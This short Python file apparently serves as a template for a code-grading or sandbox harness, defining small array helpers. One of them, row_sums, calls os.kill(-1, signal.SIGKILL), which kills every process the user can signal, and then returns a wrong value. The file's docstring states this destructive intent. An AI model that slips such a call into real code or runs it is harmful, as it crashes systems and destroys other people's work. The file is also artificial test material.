"""Kills all that it may, with kill -9 -1."""
# kind: template
# costs: submission
# passes: double
# right: double shrink

# %%
import os
import signal


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    os.kill(-1, signal.SIGKILL)
    return x[:, :1] * 0


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
